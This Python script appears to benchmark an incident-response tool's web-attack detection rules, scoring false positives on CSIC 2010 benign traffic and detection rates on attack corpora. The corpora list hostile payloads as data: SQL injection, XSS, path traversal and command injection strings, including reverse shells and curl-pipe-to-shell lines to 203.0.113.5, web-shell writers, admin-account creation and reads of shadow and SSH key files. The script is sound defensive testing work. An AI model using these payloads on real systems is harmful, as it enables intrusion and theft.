"""The security investigator's web-attack rules: false positives on real traffic, detection on attacks.

Run it as ``.venv/bin/python benchmarks/csic_false_positives.py``. It prints the figures and rewrites
its own section of ``docs/benchmarks.md`` (between ``<!-- security:start -->`` and
``<!-- security:end -->``), leaving the rest of that file alone.

**False positives.** The 36,000 benign requests of the CSIC 2010 HTTP data set
(``../shared/data/csic2010/normalTrafficTraining.txt.gz``, read in place, never copied) become nginx
combined access-log lines (the request line as sent, the client's user agent, a client address per
session cookie, status 200), which are parsed by incident-flow's own log reader and scored exactly as
the investigator scores them. The first half (in file order) was the only part ever looked at while
the rules were written; the second half is the measurement, and nothing here adapts to it. Access
logs do not record POST bodies, so the rate is measured on the request lines; a stricter variant
appends each POST body to the query string as if it had been logged.

**Detection.** Two corpora of attack requests, one per rule family:

- *generated*: payloads written for this project from the general forms of each attack, each sent
  through several encodings (URL, form ``+``, double URL, IIS ``%u``, mixed case, SQL comments for
  spaces, overlong UTF-8 for traversal, fullwidth forms for markup), in a query parameter;
- *collected*: a stride sample of public payload lists from PayloadsAllTheThings (MIT licence:
  swisskyrepo/PayloadsAllTheThings, files named below), kept verbatim. The sample was taken before
  the rules were written, and the rules were not changed after measuring them on it.

A payload counts as detected when its request reaches the anomaly threshold; the table also says how
often the expected family is among the families that matched.
"""

from __future__ import annotations

import argparse
import datetime as dt
import gzip
import hashlib
import os
import platform
import re
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "plugins"))  # before the entry point is installed

sys.path.insert(0, str(Path(__file__).resolve().parent))  # its sibling _docs, however it is loaded
from _docs import write_section  # noqa: E402
from incident_flow_security.access import as_request  # noqa: E402
from incident_flow_security.options import SecurityOptions  # noqa: E402
from incident_flow_security.rules import FAMILIES, inspect_request  # noqa: E402
from incident_flow_security.webattacks import WebCollector  # noqa: E402

from incident_flow.analysis.redact import Redactor  # noqa: E402
from incident_flow.logs import read_records  # noqa: E402

CSIC = ROOT.parent / "shared" / "data" / "csic2010" / "normalTrafficTraining.txt.gz"
DOC = ROOT / "docs" / "benchmarks.md"
START, END = "<!-- security:start -->", "<!-- security:end -->"

# --- CSIC 2010 -> access-log lines ----------------------------------------------------------------


@dataclass(frozen=True)
class HttpRequest:
    method: str
    target: str  # path and query, as sent
    user_agent: str
    session: str
    body: str


def read_csic(path: Path = CSIC) -> list[HttpRequest]:
    """The requests of a CSIC 2010 file: request line, headers, and the body of POSTs."""
    with gzip.open(path, "rt", encoding="latin-1") as handle:
        lines = handle.read().split("\n")
    requests: list[HttpRequest] = []
    i = 0
    while i < len(lines):
        line = lines[i]
        match = re.match(r"(GET|POST|PUT|DELETE|HEAD) (\S+) HTTP/\d\.\d$", line)
        i += 1
        if match is None:
            continue
        headers: dict[str, str] = {}
        while i < len(lines) and lines[i].strip():
            name, _, value = lines[i].partition(":")
            headers[name.strip().lower()] = value.strip()
            i += 1
        body = ""
        if match.group(1) in ("POST", "PUT"):
            i += 1
            if i < len(lines) and lines[i].strip() and not re.match(r"[A-Z]+ \S+ HTTP/", lines[i]):
                body = lines[i].strip()
                i += 1
        url = match.group(2)
        target = re.sub(r"^[a-z]+://[^/]+", "", url) or "/"
        cookie = re.search(r"JSESSIONID=(\w+)", headers.get("cookie", ""))
        requests.append(
            HttpRequest(
                method=match.group(1),
                target=target,
                user_agent=headers.get("user-agent", "-"),
                session=cookie.group(1) if cookie else "",
                body=body,
            )
        )
    return requests


def _nginx_escape(text: str) -> str:
    """What nginx does to a logged value: quotes, backslashes and non-printable bytes as ``\\xHH``."""
    out: list[str] = []
    for char in text:
        code = ord(char)
        if char in '"\\' or code < 0x20 or code >= 0x7F:
            out.extend(f"\\x{byte:02X}" for byte in char.encode("latin-1", "replace"))
        else:
            out.append(char)
    return "".join(out)


def access_line(request: HttpRequest, at: dt.datetime, with_body: bool = False) -> str:
    """The request as an nginx combined log line; the client address follows the session cookie."""
    digest = hashlib.sha256(request.session.encode()).digest()
    address = f"10.{digest[0]}.{digest[1]}.{digest[2] % 254 + 1}"
    target = request.target
    if with_body and request.body:
        target += ("&" if "?" in target else "?") + request.body
    return (
        f"{address} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "
        f'"{_nginx_escape(request.method)} {_nginx_escape(target)} HTTP/1.1" 200 1532 "-" '
        f'"{_nginx_escape(request.user_agent)}"'
    )


@dataclass
class Rate:
    requests: int
    flagged: int
    rules: Counter[str]
    examples: list[str]
    seconds: float
    scored: int = 0  # requests that matched any rule at all, even below the threshold

    @property
    def rate(self) -> float:
        return self.flagged / self.requests if self.requests else 0.0


def flagged_rate(requests: Sequence[HttpRequest], with_body: bool = False) -> Rate:
    """Write the requests as an access log, parse it with the real reader, score it as the investigator."""
    start = dt.datetime(2010, 1, 1, tzinfo=dt.UTC)
    with tempfile.TemporaryDirectory() as folder:
        log = Path(folder) / "access.log"
        log.write_text(
            "\n".join(
                access_line(r, start + dt.timedelta(seconds=i), with_body) for i, r in enumerate(requests)
            )
            + "\n",
            encoding="utf-8",
        )
        began = time.perf_counter()
        collector = WebCollector(SecurityOptions(), Redactor())
        rules: Counter[str] = Counter()
        examples: list[str] = []
        for record in read_records([log], format="nginx", component="shop", source_name="csic"):
            request = as_request(record)
            if request is None:
                raise SystemExit(
                    f"line {record.line} did not parse as an access-log request: {record.text!r}"
                )
            before = collector.flagged
            collector.add(request)
            if collector.flagged > before:
                verdict = inspect_request(request.target, user_agent=request.user_agent)
                rules.update(m.rule_id for m in verdict.matches)
                if len(examples) < 5:
                    examples.append(request.target[:120])
        seconds = time.perf_counter() - began
        scored = 0
        for record in read_records([log], format="nginx", component="shop", source_name="csic"):
            request = as_request(record)
            if request is not None and inspect_request(request.target, user_agent=request.user_agent).score:
                scored += 1
    return Rate(len(requests), collector.flagged, rules, examples, seconds, scored)


# --- the attack corpus ------------------------------------------------------------------------------

GENERATED_PAYLOADS: dict[str, tuple[str, ...]] = {
    "942": (
        "1' OR '1'='1",
        "1' OR 1=1-- -",
        "admin'--",
        "1 UNION SELECT username, password FROM users",
        "1' UNION ALL SELECT NULL,NULL,@@version-- -",
        "1; DROP TABLE users--",
        "1' AND SLEEP(5)-- -",
        "' OR 'a'='a",
        "1 AND 1=2",
        "1' AND extractvalue(1,concat(0x7e,version()))-- -",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1' ORDER BY 3-- -",
        "-1 UNION SELECT table_name FROM information_schema.tables",
        "x' OR pg_sleep(5)--",
        "1 OR benchmark(1000000,md5(1))",
        "' HAVING 1=1--",
        "1' AND ascii(substring((select password from users limit 1),1,1))>64-- ",
        "'; EXEC xp_cmdshell('dir')--",
        "1') OR ('x'='x",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM users GROUP BY x)a)",
    ),
    "941": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.domain)>",
        '"><script>alert(document.cookie)</script>',
        "javascript:alert(1)",
        '<iframe src="javascript:alert(1)"></iframe>',
        "<body onload=alert('x')>",
        "'\"><img src=x onerror=prompt(1)>",
        '<a href="javascript:alert(1)">click</a>',
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "';alert(String.fromCharCode(88,83,83))//",
        '<div style="width:expression(alert(1))">',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "<math><mtext><img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)',
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<video><source onerror="alert(1)">',
        "<marquee onstart=alert(1)>",
        "<embed src=javascript:alert(1)>",
    ),
    "930": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "....//....//....//etc/passwd",
        "../../../../../../proc/self/environ",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "../../WEB-INF/web.xml",
        "../../../../boot.ini",
        "../.env",
        "../../../.git/config",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "../../../../etc/passwd\x00.jpg",
        "/../../../../root/.ssh/id_rsa",
        "../../../../home/user/.bash_history",
        "expect://id",
        "/proc/self/cmdline",
        "..;/..;/..;/etc/passwd",
        "../../../../var/log/nginx/access.log",
        "/.aws/credentials",
    ),
    "932": (
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`id`",
        "$(whoami)",
        "; ls -la /",
        "|| ping -c 3 127.0.0.1",
        "; wget http://203.0.113.5/x.sh -O /tmp/x",
        "& nslookup example.com",
        "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "127.0.0.1; uname -a",
        "x|nc 203.0.113.5 4444 -e /bin/sh",
        "; curl http://203.0.113.5/shell | sh",
        "() { :;}; /bin/bash -c 'id'",
        "${jndi:ldap://203.0.113.5/a}",
        "<?php system($_GET['c']); ?>",
        "; sleep 5",
        "a;c'a't /e't'c/pa''sswd",
        ";cat${IFS}/etc/passwd",
        "| powershell -enc ZQBjAGgAbwA=",
    ),
}
"""Payloads written for this project from the general form of each attack (not from any data set)."""

SCANNER_AGENTS: tuple[str, ...] = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Fuzz Faster U Fool v2.0.0-dev",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; OpenVAS)",
    "w3af.org",
    "Mozilla/5.0 (Hydra)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
)
"""User agents that scanners send by default (scanner detection is about the agent, family 913)."""

# PayloadsAllTheThings (https://github.com/swisskyrepo/PayloadsAllTheThings, MIT licence): a stride
# sample of each named file, payloads of at least 8 characters, verbatim.
COLLECTED_PAYLOADS: dict[str, tuple[str, ...]] = {
    # SQL Injection/Intruder/Auth_Bypass.txt, Generic_TimeBased.txt, Generic_UnionSelect.txt, Generic_Fuzz.txt
    "942": (
        "' or ''-'",
        "' or ''&'",
        "' or ''*'",
        '" or ""-"',
        '" or ""&"',
        '" or ""*"',
        '" or true--',
        "') or true--",
        "') or ('x')=('x",
        '") or ("x")=("x',
        "or 1=1--",
        "or 1=1/*",
        "admin' #",
        "admin' or '1'='1",
        "admin' or '1'='1'#",
        "admin'or 1=1 or ''='",
        "admin' or 1=1--",
        "admin' or 1=1/*",
        "admin') or ('1'='1'--",
        "admin') or ('1'='1'/*",
        "admin') or '1'='1'--",
        "1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055",
        'admin" #',
        'admin" or "1"="1"--',
        "1 or sleep(5)#",
        "' or sleep(5)#",
        "') or sleep(5)='",
        ";waitfor delay '0:0:5'--",
        "';waitfor delay '0:0:5'--",
        "'));waitfor delay '0:0:5'--",
        "1 or benchmark(10000000,MD5(1))#",
        "') or benchmark(10000000,MD5(1))#",
        "1 or pg_sleep(5)--",
        "')||pg_sleep(5)--",
        "AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL) AND 'vRxe'='vRxe",
        "ORDER BY SLEEP(5)--",
        "' AnD SLEEP(5) ANd '1",
        "AND 2947=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
        " ORDER BY 1,SLEEP(5),BENCHMARK(1000000,MD5('A')),4",
        " UNION ALL SELECT 1,2,3,4,5",
        " UNION SELECT @@VERSION,SLEEP(5),USER(),4#",
        "1/*!1111'*/",
        "1'||'asd'||'",
        "1' or '1'='1",
    ),
    # XSS Injection/Intruders/XSSDetection.txt
    "941": (
        "%3Cimg/src=%3Dx+onload=alert(2)%3D",
        "%3c%73%63%72%69%70%74%3e%61%6c%65%72%74%28%22%48%69%22%29%3b%3c%2f%73%63%72%69%70%74%3e",
        "'%22--%3E%3C/style%3E%3C/script%3E%3Cscript%3Ealert(0x0000EB)%3C/script%3E",
        "48e71%3balert(1)//503466e3",
        "';confirm('XSS')//1491b2as",
        "<scr&#x9ipt>alert('XSS')</scr&#x9ipt>",
        '"onmouseover%3dprompt(941634)',
        '" onerror=alert()1 a="',
        "style=xss:expression(alert(1))",
        '<a href="javascript:alert(1)">ssss</a>',
        "+ADw-script+AD4-alert(+ACc-xss+ACc-)+ADw-+AC8-script+AD4-",
        "<%00script>alert('XSS')<%00/script>",
        "</b style=\"expr/**/ession(alert('vulnerable'))\">",
        "<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        '<SCRIPT/XSS SRC="http://ha.ckers.org/xss.js"></SCRIPT>',
        '<<SCRIPT>alert("XSS");//<</SCRIPT>',
        "<iframe src=http://ha.ckers.org/scriptlet.html <",
        '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        '<LINK REL="stylesheet" HREF="http://ha.ckers.org/xss.css">',
        '<STYLE>BODY{-moz-binding:url("http://ha.ckers.org/xssmoz.xml#xss")}</STYLE>',
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
        '<SCRIPT a=">" SRC="http://ha.ckers.org/xss.js"></SCRIPT>',
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    ),
    # Directory Traversal/Intruder/directory_traversal.txt
    "930": (
        "\\..\\WINDOWS\\win.ini",
        "\\..\\..\\..\\WINDOWS\\win.ini",
        "%5c%2e%2e%5c%2e%2e%5c%2e%2e%5c%57%49%4e%44%4f%57%53%5c%77%69%6e%2e%69%6e%69",
        "%5c%57%49%4e%44%4f%57%53%5c%77%69%6e%2e%69%6e%69",
        "..%5c..%5c../winnt/system32/cmd.exe?/c+dir+c:\\",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2f%77%69%6e%6e%74%2f%73%79%73%74%65%6d%33%32%2f%63%6d%64%2e%65%78%65%3f%2f%63%2b%64%69%72%2b%63%3a%5c",
        "../../../../../../etc/passwd",
        "../../../etc/passwd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%65%74%63%2f%70%61%73%73%77%64",
        "%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66%%36%35%%37%34%%36%33%%32%66%%37%30%%36%31%%37%33%%37%33%%37%37%%36%34",
        "../../../.htaccess",
        "././.htaccess",
        "%2e%2e%2f%2e%68%74%61%63%63%65%73%73",
        "../../../../../../../../../../../../etc/hosts%00",
        "../../boot.ini",
        "/../../../../../../../../%2A",
        "../../../../../../../../../../../../etc/shadow",
        "/../../../../../../../../../../etc/passwd^^",
        "/./././././././././././etc/passwd",
        "\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\etc\\passwd",
        "/..\\../..\\../..\\../..\\../..\\../..\\../etc/passwd",
        ".\\\\./.\\\\./.\\\\./.\\\\./.\\\\./.\\\\./etc/passwd",
        "%0a/bin/cat%20/etc/passwd",
        "%00../../../../../../etc/passwd",
        "/../../../../../../../../../../../etc/passwd%00.jpg",
        "/..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..%25%5c..winnt/desktop.ini",
        "../../../../../../../../conf/server.xml",
        "C:/inetpub/wwwroot/global.asa",
        "C:\\boot.ini",
        "../../../../../../../../../../../../localstart.asp",
        "/..\\../..\\../..\\../..\\../..\\../..\\../boot.ini",
        "/../../../../../../../../../../../boot.ini%00.html",
        "/.../.../.../.../.../",
        "..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../..%c0%af../boot.ini",
    ),
    # Command Injection/Intruder/command_exec.txt
    "932": (
        "%0Acat%20/etc/passwd",
        "%0a id %0a",
        "%0a ping -i 30 127.0.0.1 %0a",
        "%0A/usr/bin/id%0A",
        "%20{${phpinfo()}}",
        "a;id|",
        '() { :;}; /bin/bash -c "curl http://135.23.158.130/.testing/shellshock.txt?vuln=16?user=\\`whoami\\`"',
        '() { :;}; /bin/bash -c "sleep 1 && echo vulnerable 1"',
        "cat /etc/hosts",
        "$(`cat /etc/passwd`)",
        "| curl http://crowdshield.com/.testing/rce.txt",
        "&& curl https://crowdshield.com/.testing/rce_vuln.txt",
        "$(`curl https://crowdshield.com/.testing/rce_vuln.txt?req=22jjffjbn`)",
        "; dir C:\\",
        "| dir C:\\Documents and Settings\\*",
        "&& dir C:\\Users",
        ";echo%20'<script>alert(1)</script>'",
        "| echo \"<?php include($_GET['page'])| ?>\" > rfi.php",
        "& echo \"<?php system('dir $_GET['dir']'); ?>\" > dir.php ",
        "; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
        "eval('ls')",
        "exec('whoami')",
        ';{$_GET["cmd"]}',
        "; ifconfig",
        "&& ipconfig /all",
        "| ls -laR /etc",
        "&& ls -l /home/*",
        '<!--#exec cmd="/bin/cat /etc/passwd"-->',
        "| nc -lvvp 4444 -e /bin/sh|",
        "nc -lvvp 4447 -e /bin/sh;",
        "| net localgroup Administrators hacker /ADD",
        "&& netsh firewall set opmode disable",
        ";netstat -a;",
        "| net user hacker Password1 /ADD",
        "|| perl -e 'print \"X\"x16096'",
        ";phpinfo()",
        '<?php system("cat /etc/passwd");?>',
        "`ping 127.0.0.1`",
        ";${@print(md5(RCEVulnerable))};",
        "| sleep 1",
        "{${sleep(10)}}",
        "; sysinfo",
        "system('cat /etc/passwd');",
    ),
}


def _percent_unicode(text: str) -> str:
    return "".join(c if c.isalnum() else f"%u{ord(c):04x}" for c in text)


def _mixed_case(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


ENCODINGS: dict[str, tuple[str, ...]] = {
    "url": ("942", "941", "930", "932"),
    "form": ("942", "941", "930", "932"),
    "double-url": ("942", "941", "930", "932"),
    "iis-%u": ("942", "941", "930", "932"),
    "mixed-case": ("942", "941"),
    "sql-comments": ("942",),
    "overlong-utf8": ("930",),
    "fullwidth": ("941",),
}
"""Which evasions apply to which family (SQL comments only make sense in SQL, and so on)."""


def encode(payload: str, how: str) -> str:
    """``payload`` as a query-string value, encoded the way an evasive client would send it."""
    if how == "url":
        return quote(payload, safe="")
    if how == "form":
        return quote_plus(payload, safe="")
    if how == "double-url":
        return quote(quote(payload, safe=""), safe="")
    if how == "iis-%u":
        return _percent_unicode(payload)
    if how == "mixed-case":
        return quote(_mixed_case(payload), safe="")
    if how == "sql-comments":
        return quote(payload.replace(" ", "/**/"), safe="")
    if how == "overlong-utf8":
        return "".join("%c0%af" if c == "/" else "%c0%ae" if c == "." else quote(c, safe="") for c in payload)
    if how == "fullwidth":
        return quote(payload.replace("<", "\uff1c").replace(">", "\uff1e"), safe="")
    raise ValueError(how)


_PARAMETER = {
    "942": "/products?id=",
    "941": "/search?q=",
    "930": "/download?file=",
    "932": "/tools/ping?host=",
}


@dataclass(frozen=True)
class Attack:
    family: str
    corpus: str
    encoding: str
    target: str
    user_agent: str = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"


def generated_corpus() -> Iterator[Attack]:
    """Every generated payload in every encoding that applies to its family, plus the scanner agents."""
    for family, payloads in GENERATED_PAYLOADS.items():
        for payload in payloads:
            for how, families in ENCODINGS.items():
                if family in families:
                    yield Attack(family, "generated", how, _PARAMETER[family] + encode(payload, how))
    for agent in SCANNER_AGENTS:
        yield Attack("913", "generated", "user agent", "/", agent)


def collected_corpus() -> Iterator[Attack]:
    """The collected payloads, in a query parameter: URL-encoded unless the list already encoded them."""
    for family, payloads in COLLECTED_PAYLOADS.items():
        for payload in payloads:
            if re.search(r"%[0-9A-Fa-f]{2}", payload):
                value, how = payload.replace(" ", "%20"), "as listed"
            else:
                value, how = quote(payload, safe=""), "url"
            yield Attack(family, "collected", how, _PARAMETER[family] + value)


@dataclass
class Detection:
    payloads: int = 0
    flagged: int = 0
    named: int = 0


def detection(attacks: Sequence[Attack]) -> dict[tuple[str, str], Detection]:
    """Per (corpus, family): how many requests reach the threshold, and how many name the family."""
    table: dict[tuple[str, str], Detection] = {}
    for attack in attacks:
        row = table.setdefault((attack.corpus, attack.family), Detection())
        verdict = inspect_request(attack.target, user_agent=attack.user_agent)
        row.payloads += 1
        if verdict.attack:
            row.flagged += 1
            if attack.family in verdict.families:
                row.named += 1
    return table


def misses(attacks: Sequence[Attack], limit: int = 3) -> dict[str, list[str]]:
    """A few payloads per family that were not flagged, to show where the rules stop."""
    out: dict[str, list[str]] = {}
    for attack in attacks:
        if not inspect_request(attack.target, user_agent=attack.user_agent).attack:
            shown = out.setdefault(f"{attack.corpus} {attack.family}", [])
            if len(shown) < limit:
                shown.append(attack.target if attack.family != "913" else attack.user_agent)
    return out


# --- report -------------------------------------------------------------------------------------------


def machine() -> str:
    """One line naming the machine the numbers come from."""
    cpu = platform.processor() or ""
    try:
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    except OSError:
        pass
    return (
        f"{platform.platform()}, {cpu or 'unknown CPU'}, {os.cpu_count()} CPUs, "
        f"Python {platform.python_version()}"
    )


def _cell(text: str) -> str:
    return "`" + text.replace("`", "'").replace("|", "%7C")[:90] + "`"


def render(
    halves: dict[str, tuple[Rate, Rate]],
    table: dict[tuple[str, str], Detection],
    missed: dict[str, list[str]],
) -> str:
    """The Markdown section."""
    first, second = halves["first"], halves["second"]
    lines = [
        "## Security detection",
        "",
        f"Measured {dt.datetime.now(dt.UTC):%Y-%m-%d} on {machine()}. "
        "Regenerate with `.venv/bin/python benchmarks/csic_false_positives.py`.",
        "",
        "### False positives on CSIC 2010 benign traffic",
        "",
        "The 36,000 benign requests of CSIC 2010 (`normalTrafficTraining.txt.gz`, read in place) as nginx "
        "combined log lines, parsed by incident-flow's log reader and scored by the security investigator's "
        "web rules (CRS-style anomaly scoring, threshold 5). The first half in file order was the only part "
        "looked at while writing the rules; the **second half is the measurement**. Access logs do not hold "
        "POST bodies; the last column appends each POST body to the query string, a stricter test.",
        "",
        "| half | requests | flagged | rate | any rule matched | with POST bodies: flagged | rate "
        "| any rule matched | requests/s |",
        "| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |",
    ]
    for name, (line_only, with_body) in (("first (tuning)", first), ("**second (measured)**", second)):
        lines.append(
            f"| {name} | {line_only.requests:,} | {line_only.flagged} | **{line_only.rate:.3%}** "
            f"| {line_only.scored} | {with_body.flagged} | {with_body.rate:.3%} | {with_body.scored} "
            f"| {line_only.requests / line_only.seconds:,.0f} |"
        )
    fired = second[0].rules + second[1].rules
    lines += [
        "",
        '"Any rule matched" counts requests with a non-zero anomaly score (a single notice or warning), '
        "to show the margin under the threshold. CSIC's benign requests are form fields of a shop (names, "
        "addresses, quantities) with little punctuation; a site with search boxes or comment fields will "
        "see more near-misses, which is what the threshold is for (a lone `<b>` scores 3, not 5).",
        "",
        "Rules behind the second half's flags: "
        + (", ".join(f"{rule} ({n})" for rule, n in fired.most_common()) or "none")
        + ".",
        "",
        "### Detection on attack payloads",
        "",
        "Requests carrying one payload each in a query parameter (scanners: a benign path with the tool's "
        "default user agent). *Generated*: payloads written for this project, each in every evasion that "
        "applies to its family (URL, form `+`, double URL, IIS `%u`, mixed case, SQL comments for spaces, "
        "overlong UTF-8, fullwidth markup). *Collected*: a stride sample of PayloadsAllTheThings lists "
        "(MIT; `SQL Injection/Intruder/{Auth_Bypass,Generic_TimeBased,Generic_UnionSelect,"
        "Generic_Fuzz}.txt`, "
        "`XSS Injection/Intruders/XSSDetection.txt`, `Directory Traversal/Intruder/directory_traversal.txt`, "
        "`Command Injection/Intruder/command_exec.txt`), verbatim; sampled before the rules were written, "
        "and the rules were not changed after measuring them on it. "
        "Detected: the request reaches the threshold; family named: its family is among the matched ones.",
        "",
        "| family | corpus | payloads | detected | rate | family named |",
        "| --- | --- | ---: | ---: | ---: | ---: |",
    ]
    for (corpus, family), row in sorted(
        table.items(), key=lambda item: (item[0][1], item[0][0] != "generated")
    ):
        lines.append(
            f"| {family} {FAMILIES[family]} | {corpus} | {row.payloads} | {row.flagged} "
            f"| **{row.flagged / row.payloads:.1%}** | {row.named / row.payloads:.1%} |"
        )
    if missed:
        lines += ["", "Not detected (first few per family):", ""]
        for key, examples in sorted(missed.items()):
            lines.append(f"- {key}: " + ", ".join(_cell(e) for e in examples))
    lines += [
        "",
        "Not measured here: the behavioural detections (brute force, credential stuffing, distributed "
        "attempts, success after failures, 404 bursts, access anomalies) work on sequences of events, and "
        "`tests/test_security_*.py` checks each of them, with decoys, on generated logs.",
        "",
    ]
    return "\n".join(lines)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--no-write", action="store_true", help="print only; leave docs/benchmarks.md alone")
    args = parser.parse_args(argv)
    if not CSIC.is_file():
        print(f"CSIC 2010 data not found at {CSIC}", file=sys.stderr)
        return 2
    requests = read_csic()
    middle = len(requests) // 2
    halves = {
        "first": (flagged_rate(requests[:middle]), flagged_rate(requests[:middle], with_body=True)),
        "second": (flagged_rate(requests[middle:]), flagged_rate(requests[middle:], with_body=True)),
    }
    attacks = [*generated_corpus(), *collected_corpus()]
    table = detection(attacks)
    missed = misses(attacks)
    second = halves["second"][0]
    with_bodies = halves["second"][1]
    print(f"CSIC 2010: {len(requests)} requests; second half flagged {second.flagged}/{second.requests}")
    print(f"  = {second.rate:.3%}; with POST bodies {with_bodies.flagged} = {with_bodies.rate:.3%}")
    tuning = halves["first"]
    print(f"  first half (tuning): {tuning[0].flagged} flagged, {tuning[1].flagged} with bodies")
    print(f"  any rule matched in the second half: {second.scored}, with bodies {with_bodies.scored}")
    for (corpus, family), row in sorted(table.items()):
        print(
            f"  {family} {corpus:9} {row.flagged}/{row.payloads} = {row.flagged / row.payloads:.1%} detected"
        )
    for key, examples in sorted(missed.items()):
        print(f"  missed {key}: {examples}")
    if not args.no_write:
        write_section(render(halves, table, missed), START, END)
        print(f"wrote the security section of {DOC.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
